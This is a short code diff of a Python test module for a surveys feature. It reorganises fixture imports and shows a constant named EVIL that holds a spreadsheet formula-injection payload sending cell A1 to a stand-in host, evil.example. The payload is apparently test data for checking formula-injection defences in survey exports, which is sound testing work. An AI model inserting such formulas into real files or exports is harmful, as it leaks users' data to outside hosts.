@@ -20,9 +20,7 @@ from flows.features.surveys import models as store
 from flows.features.surveys.models import StoredAnswer
 from flows.features.surveys.web import bar
 from storage.db import read_session, transaction
-from tests.console.conftest import Login, logged_in, shop_app, shop_engine
-
-__all__ = ["logged_in", "shop_app", "shop_engine"]  # the console's fixtures, used here
+from tests.console.consolekit import Login
 
 MADRID = ZoneInfo("Europe/Madrid")
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
